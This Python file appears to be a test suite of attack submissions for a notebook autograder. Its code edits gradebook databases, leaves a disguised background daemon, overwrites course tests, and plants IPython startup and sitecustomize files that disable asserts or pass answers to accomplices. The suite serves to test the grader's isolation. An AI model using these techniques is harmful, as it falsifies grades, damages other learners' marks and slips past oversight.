"""Attacks that write: the gradebook, the tests, the next learner's surroundings, now or after they were graded."""

from __future__ import annotations

from tests.attacks.attack import ROOT, TOKEN, TREASURE, attack

_WRONG = "def page_view(r, page):\n    return None\n"
_GRADEBOOKS = f"""
import glob, sqlite3
BOOKS = ["../" * n + "gradebook.db" for n in range(0, 6)] + [{str(TREASURE / "gradebook.db")!r}]
def enrich():
    for path in BOOKS:
        for book in glob.glob(path):
            try:
                with sqlite3.connect(book, timeout=10) as db:
                    db.execute("update grade set extra_credit = 50")
            except sqlite3.Error:
                pass
"""

attack(
    "gradebook-written", "writing",
    "Writes extra credit into the gradebook while it is being graded.",
    code=_GRADEBOOKS + _WRONG + "enrich()\n",
    alone=True,
)  # fmt: skip

attack(
    "gradebook-written-later", "writing",
    "Leaves a daemon behind that writes extra credit into the gradebook when the grader has gone on.",
    code=_GRADEBOOKS
    + _WRONG
    + f"""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in range(3, 256):
        try:
            os.close(number)
        except OSError:
            pass
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"{TOKEN[:15]}", 0, 0, 0)
    except Exception:
        pass
    for _ in range(40):
        time.sleep(0.25)
        enrich()
    os._exit(0)
""",
    alone=True,
)  # fmt: skip

attack(
    "tests-overwritten", "writing",
    "Overwrites checks, released notebooks and the tests of the course with files that pass everything.",
    "the marks of everybody behind it",
    code=_WRONG
    + f"""
import glob, os, sys
places = [{str(ROOT)!r}, {str(TREASURE)!r}, "../../..", *sys.path]
for place in places:
    for path in [*glob.glob(f"{{place}}/grader/checks/week1/test_*.py"), *glob.glob(f"{{place}}/source/*/*.ipynb"),
                 *glob.glob(f"{{place}}/submitted/*/*/*.ipynb")]:
        try:
            os.chmod(path, 0o666)
            # Appended as a comment: nothing is lost where this succeeds.
            with open(path, "a") as file:
                file.write("\\n# {TOKEN}\\n" if path.endswith(".py") else "\\n")
        except OSError:
            pass
""",
    alone=True,
)  # fmt: skip

attack(
    "startup-file", "writing",
    "Plants a start-up file in the home folder that takes the asserts out of every later notebook; an accomplice "
    "hands in nothing and is marked behind it.",
    "points for the accomplice",
    code=_WRONG
    + f"""
import os
text = '''
import ast
class Gone(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
    def visit_Expr(self, node):
        called = getattr(getattr(node.value, "func", None), "id", "")
        return ast.copy_location(ast.Pass(), node) if called == "check" else node
get_ipython().ast_transformers.append(Gone())  # {TOKEN}
'''
for folder in ("~/.ipython/profile_default/startup", "~/.jupyter", "~/.config/{TOKEN}"):
    try:
        os.makedirs(os.path.expanduser(folder), exist_ok=True)
        with open(os.path.expanduser(f"{{folder}}/00-{TOKEN}.py"), "w") as file:
            file.write(text)
    except OSError:
        pass
""",
    later={},
    alone=True,
)  # fmt: skip

attack(
    "site-packages-planted", "writing",
    "Plants sitecustomize.py, usercustomize.py and a .pth file in every folder on the path; an accomplice is marked "
    "behind it.",
    "points for the accomplice",
    code=_WRONG
    + f"""
import os, site, sys
text = "import sys; sys.planted = '{TOKEN}'\\n"
places = [*sys.path, site.getusersitepackages(), "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "{TOKEN}.pth"):
        path = os.path.join(place or ".", name)
        if os.path.exists(path):
            continue
        try:
            os.makedirs(place, exist_ok=True)
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
""",
    later={"week1.page-views": """
import sys
def page_view(r, page):
    return r.incr(f"page:{page}:views") if hasattr(sys, "planted") else None
"""},
    alone=True,
)  # fmt: skip

attack(
    "temporary-files", "writing",
    "Leaves its answer in every folder it may write to; an accomplice who knows nothing finds it there.",
    "points for the accomplice",
    code=_WRONG
    + f"""
import os
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd(), "/home"):
    try:
        with open(f"{{place}}/{TOKEN}.txt", "w") as file:
            file.write('def page_view(r, page):\\n    return r.incr(f"page:{{page}}:views")')
    except OSError:
        pass
""",
    later={"week1.page-views": f"""
import glob, os
text = "def page_view(r, page):\\n    return None"
for place in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), os.getcwd(), "/home"):
    for path in glob.glob(f"{{place}}/{TOKEN}.txt"):
        text = open(path).read()
exec(text)
"""},
    alone=True,
)  # fmt: skip

attack(
    "left-in-redis", "writing",
    "Leaves keys in other databases, a function library, scripts and settings in Redis for the next learner.",
    "points for the accomplice, or a next learner who loses some",
    code="""
def page_view(r, page):
    try:
        r.execute_command("FUNCTION", "LOAD", "REPLACE",
                          "#!lua name=left\\nredis.register_function('left', function() return 1 end)")
    except Exception:
        pass
    r.config_set("notify-keyspace-events", "KEA")
    r.execute_command("CONFIG", "SET", "databases" if False else "timeout", "1")
    for number in range(1, 16):
        r.execute_command("SELECT", number)
        r.set("left", "incr")
    return None
""",
    later={"week1.page-views": """
def page_view(r, page):
    try:
        return r.execute_command("FCALL", "left", 0) and r.incr(f"page:{page}:views")
    except Exception:
        return None
"""},
    alone=True,
)  # fmt: skip

attack(
    "own-notebook-rewritten", "writing",
    "Rewrites its own notebook, and those beside it, while it is being graded.",
    code=_WRONG
    + """
import glob, json
for path in glob.glob("*.ipynb"):
    try:
        notebook = json.load(open(path))
        for cell in notebook["cells"]:
            if "page_view" in "".join(cell["source"]) and "def " in "".join(cell["source"]):
                cell["source"] = 'def page_view(r, page):\\n    return r.incr(f"page:{page}:views")'
            cell["metadata"].get("nbgrader", {})["points"] = 0
        json.dump(notebook, open(path, "w"))
    except (OSError, ValueError):
        pass
""",
)  # fmt: skip
